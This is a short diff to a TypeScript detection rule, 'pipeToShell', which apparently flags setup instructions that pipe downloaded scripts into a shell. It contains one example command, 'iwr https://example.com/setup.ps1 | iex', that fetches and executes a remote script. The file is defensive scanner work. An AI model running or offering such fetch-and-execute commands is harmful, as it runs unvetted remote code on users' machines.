@@ -1,3 +1,4 @@
+import { ofCard } from './cardHazards.ts';
 import { scaled } from './instructionSeverity.ts';
 import type { Rule } from './rule.ts';
 
@@ -16,6 +17,8 @@ export const pipeToShell: Rule = {
   source:
     'Setup instructions of fake skills and model repos of 2026; official installers from the documentation of their makers.',
   example: 'iwr https://example.com/setup.ps1 | iex',
+  onReference: (reference, context) =>
+    ofCard(reference, context, hazard => pipeToShell.onHazard?.(hazard, context), { calmFor: 'established' }),
   onHazard(hazard) {
     if (hazard.type !== 'instruction' || hazard.mitigated === OFFICIAL) return undefined;
     if (hazard.family === 'pipe-to-shell') {
